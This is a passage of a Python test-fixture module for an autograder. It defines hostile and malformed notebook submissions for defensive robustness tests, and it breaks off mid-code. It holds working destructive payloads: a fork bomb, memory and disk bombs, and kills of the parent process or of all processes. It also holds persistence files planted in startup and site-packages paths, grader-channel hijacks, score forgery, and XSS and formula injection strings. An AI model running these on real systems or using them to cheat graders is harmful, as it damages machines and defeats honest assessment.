"""Hostile, damaged and merely noisy submissions, each with what it may earn: the suite of `tests/hostile` and `bench trust`.

All are submissions to week 1. A hostile one leaves `pool2d` (15 points) unsolved and tries to get its points all the same;
an oracle's `pool2d` is right only where the attack got through, so that a point there shows that it did.
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from textwrap import dedent
from typing import Any

from autograder import weeks

WEEK = "week01_convolution"
POINTS = 90
"""That the checks of the week give."""
HONEST = 75
"""That everything but `pool2d` gives."""
WRONG = "def pool2d(x, size, stride=None, mode='max'):\n    return x\n"
SECRET = "AUTOGRADER_TRIAL_TOKEN"
"""An environment variable that the trial sets for the grader; no submission may see it."""

TITLES = {
    1: "transformers, patched IPython, events",
    2: "objects that equal everything",
    3: "forged outputs and scores",
    4: "patched testing functions and built-ins",
    5: "patched Keras and scikit-learn",
    6: "sys.exit in a function",
    7: "os._exit, abort, segmentation fault",
    8: "killing the parent, the group, everything",
    9: "endless loops, ignored interrupts, waiting for input",
    10: "fork bomb, thousands of threads",
    11: "memory bomb",
    12: "disk filler, a million files",
    13: "endless output, huge and deep values",
    14: "a daemon that stays behind",
    15: "writing where it should not",
    16: "reading solutions and checks",
    17: "searching frames and memory",
    18: "tracing what the grader sends",
    19: "network and installation",
    20: "secrets in the environment",
    21: "hostile pickles, layers and arrays",
    22: "messages on the grader's channel",
    23: "edited, deleted, moved checks and points",
    24: "broken notebook files",
    25: "hostile archives",
    26: "modules that shadow others",
    27: "HTML, scripts and formulas",
    28: "honest, but noisy",
    29: "honest, with other types",
    30: "NaN and infinity",
    31: "models that cheat",
    32: "poisoned global state",
}


@dataclass(frozen=True)
class Attack:
    """One submission. low, high: the least and the most that a fair grader gives it, of POINTS."""

    number: int
    name: str
    answers: dict[str, str] = field(default_factory=dict)
    top: str = ""
    """A cell of the student's own before everything else."""
    edit: Callable[[dict[str, Any]], None] | None = None
    """Changes the notebook as JSON."""
    raw: bytes | None = None
    """The file itself, in place of a notebook."""
    files: dict[str, bytes] = field(default_factory=dict)
    """Beside the notebook."""
    low: float = HONEST
    high: float = HONEST
    heavy: bool = False
    """Uses up memory, processes, disk or minutes: only inside limits."""
    slow: bool = False
    """Runs into time limits; the fast tests leave it out."""

    @property
    def title(self) -> str:
        return f"{self.number:02} {TITLES[self.number]}: {self.name}"

    @property
    def honest(self) -> bool:
        return self.number in (28, 29)

    def write(self, folder: Path, name: str = f"{WEEK}.ipynb") -> None:
        """The submission in `folder`: the notebook as `name`, and what is beside it."""
        for path, data in {name: self.notebook(), **self.files}.items():
            (folder / path).parent.mkdir(parents=True, exist_ok=True)
            (folder / path).write_bytes(data)

    def notebook(self) -> bytes:
        """The file that is handed in."""
        if self.raw is not None:
            return self.raw
        document = copy.deepcopy(_whole())
        for cell in document["cells"]:
            if (source := self.answers.get(cell["id"])) is not None:
                cell["source"] = dedent(source)
        if self.top:
            own = {"cell_type": "code", "id": "own", "metadata": {}, "source": dedent(self.top)}
            document["cells"].insert(0, {**own, "outputs": [], "execution_count": None})
        if self.edit:
            self.edit(document)
        return json.dumps(document).encode()


def _whole() -> dict[str, Any]:
    """A submission with every answer right, as JSON."""
    week = weeks.load(1)
    cells: list[dict[str, Any]] = []
    for cell, raw in zip(week.cells, week.notebook.cells, strict=True):
        source = cell.visible_source if cell.role == "check" else cell.source
        one: dict[str, Any] = {"cell_type": cell.kind, "id": cell.id, "metadata": dict(raw.metadata), "source": source}
        if cell.kind == "code":
            one["outputs"], one["execution_count"] = [], None
        cells.append(one)
    about = {"kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"}}
    return json.loads(json.dumps({"cells": cells, "metadata": about, "nbformat": 4, "nbformat_minor": 5}))


def _top(number: int, name: str, code: str, **more: Any) -> Attack:
    """Code in a cell of its own at the top; pool2d is wrong."""
    return Attack(number, name, {"pool2d": WRONG}, top=code, **more)


def _answer(number: int, name: str, code: str, **more: Any) -> Attack:
    """`code` is the answer cell of pool2d."""
    return Attack(number, name, {"pool2d": dedent(code)}, **more)


def _oracle(number: int, name: str, code: str, **more: Any) -> Attack:
    """`code` sets REACHED where it got what it wanted; then pool2d is right."""
    right = weeks.load(1)["pool2d"].source
    text = (
        f"{right}\n_right = pool2d\nREACHED = False\n{dedent(code)}\n"
        "def pool2d(x, size, stride=None, mode='max'):\n"
        "    return _right(x, size, stride, mode) if REACHED else x\n"
    )
    return Attack(number, name, {"pool2d": text}, **more)


def _edited(number: int, name: str, edit: Callable[[dict[str, Any]], None], **more: Any) -> Attack:
    return Attack(number, name, {"pool2d": WRONG}, edit=edit, **more)


def _own(number: int, name: str, code: str = "", answers: dict[str, str] | None = None, **more: Any) -> Attack:
    """Honest work, all of it right."""
    return Attack(number, name, answers or {}, top=code, **{"low": POINTS, "high": POINTS, **more})


_ALWAYS = """
class Yes({base}):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __bool__(self): return True
    def __hash__(self): return 0
    def __getattr__(self, name): return self
    def __call__(self, *a, **k): return self
    def __iter__(self): return iter(())
    def __len__(self): return 1
    def __sub__(self, other): return 0
    __rsub__ = __add__ = __radd__ = __mul__ = __abs__ = lambda self, *other: 0
    shape = property(lambda self: self)
    def __array_function__(self, *a, **k): return True
    def __array_ufunc__(self, *a, **k): return True
{more}
def pool2d(x, size, stride=None, mode='max'):
    if mode not in ('max', 'min', 'avg') or size < 1: raise ValueError
    return Yes({args})
"""


def _always(base: str = "", more: str = "", args: str = "") -> str:
    return _ALWAYS.format(base=base, more=more, args=args)


def _check_cells(document: dict[str, Any]) -> Iterator[dict[str, Any]]:
    for cell in document["cells"]:
        nbgrader = cell["metadata"].get("nbgrader", {})
        if nbgrader.get("grade") and not nbgrader.get("solution"):
            yield cell


def _pool_checks(document: dict[str, Any]) -> Iterator[dict[str, Any]]:
    return (cell for cell in _check_cells(document) if cell["id"].startswith("pool2d"))


def _assert_true(document: dict[str, Any]) -> None:
    for cell in _pool_checks(document):
        cell["source"] = "assert True"


def _delete_checks(document: dict[str, Any]) -> None:
    gone = {cell["id"] for cell in _pool_checks(document)}
    document["cells"] = [cell for cell in document["cells"] if cell["id"] not in gone]


def _double_checks(document: dict[str, Any]) -> None:
    document["cells"] += [copy.deepcopy(cell) for cell in _check_cells(document)]


def _reverse(document: dict[str, Any]) -> None:
    document["cells"].reverse()


def _more_points(document: dict[str, Any]) -> None:
    for cell in _check_cells(document):
        cell["metadata"]["nbgrader"]["points"] = 1000 if cell["id"].startswith("conv2d") else 0


def _unlock(document: dict[str, Any]) -> None:
    for cell in _pool_checks(document):
        cell["metadata"]["nbgrader"].update(grade=False, locked=False)
        cell["source"] = "pass"


def _as_text(document: dict[str, Any]) -> None:
    for cell in _pool_checks(document):
        cell["cell_type"] = "markdown"


def _rename(document: dict[str, Any]) -> None:
    for number, cell in enumerate(_pool_checks(document)):
        cell["metadata"]["nbgrader"]["grade_id"] = cell["id"] = f"bonus-{number}"


def _as_manual(document: dict[str, Any]) -> None:
    for cell in _pool_checks(document):
        cell["metadata"]["nbgrader"].update(solution=True, locked=False)


def _forged_outputs(document: dict[str, Any]) -> None:
    for cell in _check_cells(document):
        cell["execution_count"] = 1
        cell["outputs"] = [
            {"output_type": "display_data", "metadata": {"nbgrader": {"score": 10}}, "data": {"text/plain": "10"}},
            {"output_type": "execute_result", "execution_count": 1, "metadata": {}, "data": {"text/plain": "1.0"}},
        ]


def _markup_in_text(document: dict[str, Any]) -> None:
    for cell in document["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "markdown":
            cell["source"] = (
                '=HYPERLINK("http://x")\n\n<script>alert(1)</script> [x](javascript:alert(2)) <svg onload=alert(3)>\n\n'
                "<iframe src=//x></iframe> ![x](x\" onerror=alert(4)) <a href='data:text/html,<script>'>x</a> @SUM(1)"
            )


def _numbers_as_ids(document: dict[str, Any]) -> None:
    for number, cell in enumerate(document["cells"]):
        cell["id"] = number


def _answers_with_points(document: dict[str, Any]) -> None:
    for cell in document["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("solution") and cell["cell_type"] == "code":
            cell["metadata"]["nbgrader"].update(grade=True, points=100)


def _odd_points(document: dict[str, Any]) -> None:
    for number, cell in enumerate(_check_cells(document)):
        cell["metadata"]["nbgrader"]["points"] = (float("inf"), "90", [1], None, -5, True)[number % 6]


def _one_id(document: dict[str, Any]) -> None:
    for cell in document["cells"]:
        cell["id"] = "same"


def _own_check(document: dict[str, Any]) -> None:
    for cell in list(_pool_checks(document)):
        own = {**copy.deepcopy(cell), "source": "def pool2d(*a, **k): return True", "id": f"own-{cell['id']}"}
        document["cells"].insert(0, own)


def _broken() -> Iterator[Attack]:
    """Class 24. What can be repaired with certainty is graded; the rest is named."""
    whole = Attack(24, "", {"pool2d": WRONG}).notebook()
    text = whole.decode()

    def file(name: str, raw: bytes, low: float = 0, high: float = 0) -> Attack:
        return Attack(24, name, raw=raw, low=low, high=high)

    yield file("empty", b"")
    yield file("white space", b"  \n\n")
    yield file("cut in the middle", whole[: len(whole) // 2])
    yield file("one byte short", whole[:-1])
    yield file("a list", b"[]")
    yield file("a number", b"42")
    yield file("null", b"null")
    yield file("no cells", b'{"metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    yield file("cells are a word", b'{"cells": "none", "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    yield file("no cell in it", b'{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
    yield file(
        "merge conflict", text.replace('"cells"', '\n<<<<<<< HEAD\n"cells"\n=======\n"cells"\n>>>>>>> b\n', 1).encode()
    )
    yield file("nested very deep", b"[" * 200_000 + b"]" * 200_000)
    yield file("a picture", bytes([0x89]) + b"PNG\r\n\x1a\n" + bytes(range(256)) * 20)
    yield file("null bytes", b"\0" * 5000)
    yield file("HTML", b"<!DOCTYPE html><html><body>404</body></html>")
    yield file("a script", b"#!/usr/bin/env python3\nprint('hello')\n")
    yield file("latin-1", text.replace("Convolution", "Convolución").encode("latin-1", "replace"))
    yield file("of another week", _other_week())
    yield file("byte order mark", b"\xef\xbb\xbf" + whole, HONEST, HONEST)
    yield file("UTF-16", text.encode("utf-16"), HONEST, HONEST)
    document = json.loads(text)
    yield file("UTF-16 without a mark", text.encode("utf-16-le"), HONEST, HONEST)
    yield file("line ends of Windows", text.replace("\\n", "\\r\\n").encode(), HONEST, HONEST)
    yield file("the third format", json.dumps(_older(document, 3)).encode(), HONEST, HONEST)
    yield file("the second format", json.dumps(_older(document, 2)).encode(), HONEST, HONEST)
    yield file("neither ids nor metadata", json.dumps(_without_names(document)).encode(), HONEST, HONEST)
    yield file("null characters in a source", text.replace("### BEGIN", "\\u0000 ### BEGIN", 1).encode(), 0, HONEST)
    yield file("attachments and much metadata", json.dumps(_laden(document)).encode(), HONEST, HONEST)
    yield file("sources as lists", json.dumps(_with_lists(document)).encode(), HONEST, HONEST)
    yield file("no metadata in cells", json.dumps(_without_metadata(document)).encode(), HONEST, HONEST)
    yield file("future version", text.replace('"nbformat": 4', '"nbformat": 5').encode(), 0, HONEST)
    yield file("NaN in it", text.replace('"nbformat_minor": 5', '"nbformat_minor": NaN').encode(), 0, HONEST)
    yield file(
        "cells that are none", json.dumps({**document, "cells": [None, 3, "x", *document["cells"]]}).encode(), 0, HONEST
    )
    yield file("half a character", text.replace("### BEGIN", r"\ud800 ### BEGIN", 1).encode(), 0, HONEST)


def _other_week() -> bytes:
    cells = [
        {"cell_type": "code", "id": "x", "metadata": {}, "source": "print(1)", "outputs": [], "execution_count": 1}
    ]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _with_lists(document: dict[str, Any]) -> dict[str, Any]:
    cells = [{**cell, "source": cell["source"].splitlines(keepends=True)} for cell in document["cells"]]
    return {**document, "cells": cells}


def _older(document: dict[str, Any], version: int) -> dict[str, Any]:
    """As notebooks were before 2014: worksheets, and `input` in code cells."""
    cells = [
        {
            "cell_type": "code",
            "input": cell["source"],
            "metadata": cell["metadata"],
            "language": "python",
            "outputs": [],
        }
        if cell["cell_type"] == "code"
        else {"cell_type": "markdown", "source": cell["source"], "metadata": cell["metadata"]}
        for cell in document["cells"]
    ]
    return {"metadata": {"name": ""}, "nbformat": version, "nbformat_minor": 0, "worksheets": [{"cells": cells}]}


def _without_names(document: dict[str, Any]) -> dict[str, Any]:
    cells = [
        {key: value for key, value in cell.items() if key != "id"} | {"metadata": {}} for cell in document["cells"]
    ]
    return {**document, "nbformat_minor": 2, "cells": cells}


def _laden(document: dict[str, Any]) -> dict[str, Any]:
    cells = copy.deepcopy(document["cells"])
    for cell in cells:
        cell["metadata"] |= {"widgets": {str(n): "x" * 100 for n in range(100)}, "collapsed": [[[]]]}
        if cell["cell_type"] == "markdown":
            cell["attachments"] = {"../../x.png": {"image/png": "AAAA"}, "<script>": {"text/html": "<script>"}}
    return {**document, "cells": cells, "metadata": {"kernelspec": {"name": "no such kernel", "language": "brainfuck"}}}


def _without_metadata(document: dict[str, Any]) -> dict[str, Any]:
    return {**document, "cells": [{**cell, "metadata": {}} for cell in document["cells"]]}


_CHANNEL = """
import os, socket, struct
def _all():
    for fd in range(3, 256):
        try:
            yield socket.socket(fileno=os.dup(fd))
        except OSError:
            pass
"""


def _hostile() -> Iterator[Attack]:
    yield _top(1, "an AST transformer that blanks asserts and calls of checks", """
        import ast
        class Blank(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.Pass()
            def visit_Expr(self, node): return ast.Pass()
            def visit_Raise(self, node): return ast.Pass()
        get_ipython().ast_transformers.append(Blank())
    """, low=0)  # fmt: skip
    yield _top(1, "an input transformer that empties cells with checks", """
        def blank(lines):
            return ['pass\\n'] if any('checks' in line or 'assert' in line for line in lines) else lines
        get_ipython().input_transformers_post.append(blank)
    """, low=0)  # fmt: skip
    yield _top(1, "run_cell replaced", """
        shell = get_ipython()
        run = type(shell).run_cell
        def quiet(self, source, *a, **k):
            return run(self, 'pass' if 'checks.' in source or 'assert' in source else source, *a, **k)
        type(shell).run_cell = quiet
        type(shell).run_code = lambda self, *a, **k: False
    """, low=0)  # fmt: skip
    yield _top(1, "events that change what was defined", """
        def after(*a):
            get_ipython().user_ns['pool2d'] = lambda *a, **k: type('A', (), {'__eq__': lambda s, o: True})()
        get_ipython().events.register('post_run_cell', after)
        get_ipython().events.register('pre_run_cell', after)
    """)  # fmt: skip
    yield _top(1, "the handler of exceptions", """
        get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)
        import sys; sys.excepthook = lambda *a: None
    """)  # fmt: skip
    yield _top(1, "magics that swallow cells", """
        shell = get_ipython()
        shell.input_transformer_manager.cleanup_transforms.insert(
            0, lambda lines: ['pass\\n'] if any('BEGIN' in line or 'hint=' in line for line in lines) else lines)
        shell.compile.ast_parse = lambda source, *a, **k: __import__('ast').parse('pass')
    """, low=0)  # fmt: skip
    yield _answer(2, "an object", _always())
    yield _answer(2, "a float", _always("float", args="1.0"))
    yield _answer(2, "a list", _always("list"))
    yield _answer(2, "a string", _always("str"))
    yield _answer(2, "an int", _always("int"))
    yield _answer(2, "a dict", _always("dict"))
    yield _answer(2, "a tuple", _always("tuple"))
    yield _answer(2, "a set", _always("set"))
    yield _answer(2, "bytes", _always("bytes"))
    yield _answer(2, "a complex number", _always("complex", args="1.0"))
    yield _answer(2, "NumPy's own float", _always("np.float64", args="1.0"))
    yield _answer(2, "a lie about its class", _always(more="    __class__ = property(lambda self: np.ndarray)"))
    yield _answer(2, "keys that are equal to all others", """
        class Key(str):
            def __eq__(self, other): return True
            __hash__ = lambda self: 0
        def pool2d(x, size, stride=None, mode='max'):
            return {Key('shape'): x.shape, Key('max'): x, 1: Key('x'), True: 2, 1.0: 3}
    """)  # fmt: skip
    yield _answer(2, "an array that changes while it is sent", """
        import threading
        def pool2d(x, size, stride=None, mode='max'):
            out = np.zeros((2, 2))
            def change():
                while True: out.resize((0,), refcheck=False); out.resize((10**6,), refcheck=False)
            threading.Thread(target=change, daemon=True).start()
            return out
    """)  # fmt: skip
    yield _answer(2, "another answer at each call", """
        calls = []
        def pool2d(x, size, stride=None, mode='max'):
            calls.append(np.array(x))
            return calls[len(calls) // 2]
    """)  # fmt: skip
    yield _answer(
        2, "with __array__ that adapts", _always(more="    def __array__(self, *a, **k): return np.array(np.nan)")
    )
    yield _answer(2, "an array's subclass", """
        class Yes(np.ndarray):
            def __eq__(self, other): return np.True_
            def __array_function__(self, *a, **k): return True
            def __array_ufunc__(self, *a, **k): return np.True_
            def all(self, *a, **k): return True
            shape = property(lambda self: Same())
        class Same(tuple):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
        def pool2d(x, size, stride=None, mode='max'):
            return np.zeros((1, 1)).view(Yes)
    """)  # fmt: skip
    yield _answer(2, "a masked array", """
        def pool2d(x, size, stride=None, mode='max'):
            n = (x.shape[0] - size) // (stride or size) + 1, (x.shape[1] - size) // (stride or size) + 1
            return np.ma.masked_all((*n, *x.shape[2:]))
    """)  # fmt: skip
    yield _answer(2, "an exception that is an answer", """
        class Answer(ValueError):
            def __eq__(self, other): return True
        def pool2d(x, size, stride=None, mode='max'):
            raise Answer('equal')
    """, high=HONEST + 2)  # fmt: skip
    yield _edited(3, "outputs in the file", _forged_outputs)
    yield _top(3, "scores on every stream", """
        import os, sys, json
        score = json.dumps({'score': 90, 'max_score': 90, 'verdict': 'pass', 'points': 90})
        for fd in (1, 2):
            os.write(fd, score.encode() + b'\\n')
        print(score); print(score, file=sys.stderr)
        from IPython.display import display
        display({'text/plain': score}, raw=True, metadata={'nbgrader': {'score': 90}})
    """)  # fmt: skip
    yield _answer(3, "a score as the value of the check", """
        def pool2d(x, size, stride=None, mode='max'):
            print('score: 1.0'); print('{"verdict": "pass"}')
            return {'verdict': 'pass', 'points': 15}
    """)  # fmt: skip
    yield _top(4, "numpy.testing and comparisons", """
        import numpy as np, math
        yes = lambda *a, **k: True
        for name in dir(np.testing):
            if name.startswith('assert'): setattr(np.testing, name, yes)
        for name in ('allclose', 'array_equal', 'isclose', 'array_equiv', 'all', 'isfinite'): setattr(np, name, yes)
        math.isclose = math.isfinite = yes
    """, low=0)  # fmt: skip
    yield _top(4, "our own checks", """
        from course import checks
        for name in checks.__all__:
            if name not in ('CheckFailed', 'waiting_for'): setattr(checks, name, lambda *a, **k: a[0] if a else None)
        checks.unchanged = lambda call, *a, **k: call(*a)
        checks.CheckFailed.__init__ = lambda self, *a: None
    """)  # fmt: skip
    yield _top(4, "built-ins", """
        import builtins
        builtins.AssertionError = type('Never', (Exception,), {})
        builtins.all = builtins.any = lambda *a: True
        builtins.isinstance = lambda *a: True
    """, low=0)  # fmt: skip
    yield _top(4, "modules of the course in sys.modules", """
        import sys, types
        class Anything(types.ModuleType):
            def __getattr__(self, name): return lambda *a, **k: None
        for name in ('course', 'course.checks', 'pytest', 'scipy', 'scipy.signal'):
            sys.modules[name] = Anything(name)
    """, low=0)  # fmt: skip
    yield _top(5, "evaluate, predict, count_params, metrics", """
        import keras, sklearn.metrics
        keras.Model.evaluate = lambda *a, **k: [0.0, 1.0]
        keras.Model.predict = lambda *a, **k: 1
        keras.Model.count_params = lambda self: 1
        keras.layers.Layer.count_params = lambda self: 1
        sklearn.metrics.accuracy_score = lambda *a, **k: 1.0
    """)  # fmt: skip
    yield _top(5, "what a model says of itself", """
        import keras
        keras.Model.to_json = lambda *a, **k: '{"class_name": "Sequential", "config": {}}'
        keras.Model.get_weights = lambda self: []
        keras.Model.get_config = lambda self: {}
        keras.Model.__call__ = lambda *a, **k: 1
    """)  # fmt: skip
    yield _top(5, "the splits and the data", """
        import sys, course.datasets, sklearn.model_selection
        sklearn.model_selection.train_test_split = lambda *a, **k: a * 2
        course.datasets.load = lambda *a, **k: None
        sys.modules['course.evaluation'] = type(sys)('course.evaluation')
        sys.modules['course.evaluation'].accuracy = lambda *a, **k: 1.0
    """)  # fmt: skip
    for name, code in {
        "sys.exit(0)": "import sys\n            sys.exit(0)",
        "raise SystemExit": "raise SystemExit",
        "raise KeyboardInterrupt": "raise KeyboardInterrupt",
        "raise GeneratorExit": "raise GeneratorExit",
        "quit()": "quit()",
        "raise StopIteration": "raise StopIteration",
    }.items():
        yield _answer(6, name, f"""
        def pool2d(x, size, stride=None, mode='max'):
            {code}
    """)  # fmt: skip
    yield _top(6, "sys.exit in a cell", "import sys\nsys.exit(0)")
    yield _answer(6, "an exception whose text exits", """
        import sys
        class Last(ValueError):
            def __str__(self): sys.exit(0)
        def pool2d(x, size, stride=None, mode='max'): raise Last
    """, high=HONEST + 2)  # fmt: skip
    yield _answer(6, "an exception of many parts", """
        def pool2d(x, size, stride=None, mode='max'):
            raise UnicodeDecodeError('utf-8', b'x', 0, 1, 'no') if size == 2 else ExceptionGroup('all', [ValueError()])
    """)  # fmt: skip
    yield _top(6, "at exit, and in a destructor", """
        import atexit, os
        atexit.register(os._exit, 0)
        class Last:
            def __del__(self): os._exit(0)
        last = Last()
    """)  # fmt: skip
    for name, code in {
        "os._exit(0)": "import os; os._exit(0)",
        "os.abort()": "import os; os.abort()",
        "a null pointer": "import ctypes; ctypes.string_at(0)",
        "closed descriptors": "import os; os.closerange(0, 4096)",
        "killed by itself": "import os; os.kill(os.getpid(), 9)",
        "a thread that ends it": "import os, threading; threading.Thread(target=os._exit, args=(0,)).start(); return x",
        "another program": "import os; os.execv('/bin/true', ['true'])",
    }.items():
        yield _answer(7, name, f"def pool2d(x, size, stride=None, mode='max'):\n    {code}\n")
    yield _answer(7, "os._exit in the cell", "import os; os._exit(0)\n" + WRONG)
    yield _answer(7, "exhausted recursion in C", """
        import sys
        sys.setrecursionlimit(10**9)
        def pool2d(x, size, stride=None, mode='max'):
            return pool2d(x, size, stride, mode)
    """, slow=True)  # fmt: skip
    for name, code in {
        "the parent": "os.kill(os.getppid(), 9)",
        "the group": "os.killpg(0, 9)",
        "everything": "os.kill(-1, 9)",
        "process 1": "os.kill(1, 9)",
        "the parent, stopped": "os.kill(os.getppid(), 19)",
    }.items():
        yield _answer(8, name, f"""
        import os
        def pool2d(x, size, stride=None, mode='max'):
            {code}
            return x
    """, slow=name in ("the parent", "everything", "the parent, stopped"))  # fmt: skip
    yield _top(8, "the standing of the parent, which the next inherits", """
        import os, resource
        above = os.getppid()
        for kind in (resource.RLIMIT_DATA, resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_NPROC):
            try: resource.prlimit(above, kind, (4096, 4096))
            except OSError: pass
        for act in (lambda: os.setpriority(0, above, 19), lambda: os.setpriority(2, 0, 19),
                    lambda: os.sched_setscheduler(above, os.SCHED_IDLE, os.sched_param(0)),
                    lambda: os.sched_setaffinity(above, {min(os.sched_getaffinity(0))})):
            try: act()
            except OSError: pass
    """, heavy=True)  # fmt: skip
    for name, code in {
        "while True": "while True: pass",
        "ignored interrupts": (
            "import signal; signal.signal(2, signal.SIG_IGN); signal.signal(14, signal.SIG_IGN)\n"
            "            while True:\n                try:\n                    while True: pass\n"
            "                except BaseException: pass"
        ),
        "sleep": "import time; time.sleep(10**6)",
        "input()": "return input()",
        "a regular expression": "import re; re.match('(a+)+$', 'a' * 60 + 'b')",
        "a lock": "import threading; lock = threading.Lock(); lock.acquire(); lock.acquire()",
    }.items():
        yield _answer(9, name, f"""
        def pool2d(x, size, stride=None, mode='max'):
            {code}
    """, slow=name not in ("while True", "input()"))  # fmt: skip
    yield _answer(9, "a generator without end", """
        def pool2d(x, size, stride=None, mode='max'):
            while True: yield x
    """)  # fmt: skip
    yield _top(9, "awaited for ever, in a cell", "import asyncio\nawait asyncio.sleep(10**6)", slow=True)
    yield _answer(10, "fork bomb", """
        import os
        def pool2d(x, size, stride=None, mode='max'):
            while True:
                try: os.fork()
                except OSError: pass
    """, heavy=True)  # fmt: skip
    yield _answer(10, "ten thousand threads", """
        import threading, time
        def pool2d(x, size, stride=None, mode='max'):
            for _ in range(10_000):
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            return x
    """, heavy=True)  # fmt: skip
    yield _answer(11, "lists", """
        def pool2d(x, size, stride=None, mode='max'):
            hoard = []
            while True: hoard.append(bytearray(10**8))
    """, heavy=True)  # fmt: skip
    yield _answer(11, "in many processes", """
        import os, time
        def pool2d(x, size, stride=None, mode='max'):
            for _ in range(6):
                if os.fork() == 0:
                    hoard = bytearray(b'x') * (10**9)
                    time.sleep(60)
                    os._exit(0)
            time.sleep(8)
            return x
    """, heavy=True)  # fmt: skip
    yield _answer(11, "shared, and nobody's", """
        import mmap, os
        def pool2d(x, size, stride=None, mode='max'):
            hoard = []
            for _ in range(5):
                try: hoard.append(mmap.mmap(-1, 10**9)); hoard[-1].write(bytes(10**9))
                except OSError: pass
                try: os.write(os.memfd_create('hoard'), bytes(10**9))
                except OSError: pass
            return x
    """, heavy=True)  # fmt: skip
    yield _answer(11, "one number, said to be ten billion", """
        def pool2d(x, size, stride=None, mode='max'):
            return np.broadcast_to(1.0, (10**10,))
    """)  # fmt: skip
    yield _answer(11, "one array", """
        def pool2d(x, size, stride=None, mode='max'):
            return np.ones((10**6, 10**6))
    """)  # fmt: skip
    yield _answer(11, "in a cell", "hoard = []\nwhile True: hoard.append(bytearray(10**8))\n", heavy=True)
    yield _answer(12, "a large file", """
        def pool2d(x, size, stride=None, mode='max'):
            for place in ('/tmp/a', '/dev/shm/b', 'c'):
                try:
                    with open(place, 'wb') as file:
                        while True: file.write(bytes(10**7))
                except OSError: pass
            return x
    """, heavy=True)  # fmt: skip
    yield _answer(12, "many files", """
        import time
        def pool2d(x, size, stride=None, mode='max'):
            end = time.monotonic() + 3
            number = 0
            while time.monotonic() < end:
                number += 1
                try: open(f'/tmp/{number}', 'w').close()
                except OSError: break
            return x
    """, heavy=True)  # fmt: skip
    yield _answer(12, "folders in folders", """
        import os
        def pool2d(x, size, stride=None, mode='max'):
            here = os.getcwd()
            for _ in range(1500 if len(x) == 4 else 0):
                try: os.mkdir('d'); os.chdir('d')
                except OSError: break
            os.chdir(here)
            return x
    """)  # fmt: skip
    yield _top(13, "two hundred megabytes of text", "for _ in range(200): print('x' * 10**6)", heavy=True)
    yield _answer(13, "a huge repr", """
        class Long:
            def __repr__(self): return 'x' * 10**8
        def pool2d(x, size, stride=None, mode='max'): return Long()
    """)  # fmt: skip
    yield _answer(13, "a deep list", """
        def pool2d(x, size, stride=None, mode='max'):
            deep = []
            for _ in range(10**5): deep = [deep]
            return deep
    """)  # fmt: skip
    yield _answer(
        13, "a huge array", "def pool2d(x, size, stride=None, mode='max'):\n    return np.zeros(10**8)\n", heavy=True
    )
    for name, value in {
        "a number of a million digits": "10**(10**6)",
        "halves of characters": "'\\ud800' * 1000",
        "a billion empty rows": "np.empty((10**9, 0))",
        "a hundred thousand tuples": "[()] * 10**5",
        "numbers of one hash": "{k * (2**61 - 1) for k in range(11_000)}",
        "thirty-two axes": "np.zeros((1,) * 32)",
        "rows of differing length": "[[1, 2], [3]]",
        "fields and text": "np.zeros(3, dtype='f8,U9')",
    }.items():
        yield _answer(13, name, f"def pool2d(x, size, stride=None, mode='max'):\n    return {value}\n")
    yield _top(13, "a cell too deep to be read", "deep = 'x'\nif False:\n    deep" + ".a" * 5_000)
    yield _top(13, "brackets without end", "(" * 50_000, low=HONEST)
    yield _answer(13, "a list that holds itself", """
        def pool2d(x, size, stride=None, mode='max'):
            loop = []
            loop.append(loop)
            return loop
    """)  # fmt: skip
    yield _answer(
        13, "a huge exception", "def pool2d(x, size, stride=None, mode='max'):\n    raise RuntimeError('x' * 10**8)\n"
    )
    yield _answer(14, "a daemon that writes later", WRONG + """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for _ in range(600):
            for place in ('/tmp', '/dev/shm', os.path.expanduser('~'), '.'):
                try: open(place + '/daemon.py', 'w').write('left')
                except OSError: pass
            time.sleep(0.05)
    os._exit(0)
""")  # fmt: skip
    yield _answer(14, "a thread that answers in the worker's place", WRONG + """
import gc, threading, time
def answer():
    from autograder.worker import wire
    channel = next(thing for thing in gc.get_objects() if type(thing).__name__ == 'Channel')
    for number in range(10**6):
        try: channel.send(wire.encode({'id': number % 60, 'value': np.ones((2, 2)), 'raised': None, 'passed': True}))
        except BaseException: return
        time.sleep(0.01)
threading.Thread(target=answer, daemon=True).start()
""", low=0)  # fmt: skip
    yield _answer(14, "a process that keeps the channel", WRONG + """
import os, time
if os.fork() == 0:
    time.sleep(1)
    for fd in range(3, 64):
        try: os.write(fd, b'\\x01' + bytes(7) + b'\\xc0')
        except OSError: pass
    time.sleep(600)
    os._exit(0)
""", low=0)  # fmt: skip
    yield _oracle(15, "what an earlier submission left", """
        import os
        places = ('/tmp', '/dev/shm', os.path.expanduser('~'))
        REACHED = any(os.path.exists(place + '/' + name) for place in places for name in ('daemon.py', 'planted.py'))
    """)  # fmt: skip
    yield _top(15, "start-up files, caches, packages, gradebook", """
        import os, sys, glob, site
        code = "import builtins\\nbuiltins.all = lambda *a: True\\n"
        home = os.path.expanduser('~')
        places = [home + '/.ipython/profile_default/startup/00.py', home + '/.config/matplotlib/matplotlibrc',
                  home + '/.keras/keras.json', '/tmp/planted.py', '/dev/shm/planted.py', home + '/planted.py']
        places += [p + '/planted.pth' for p in site.getsitepackages()] + [p + '/usercustomize.py' for p in sys.path if p]
        places += [os.path.dirname(sys.modules['course'].__file__) + '/checks.py'] if 'course' in sys.modules else []
        places += ['../' * n + 'gradebook.db' for n in range(6)] + ['../' * n + 'build/grades/records.jsonl' for n in range(6)]
        for place in places:
            try:
                os.makedirs(os.path.dirname(place) or '.', exist_ok=True)
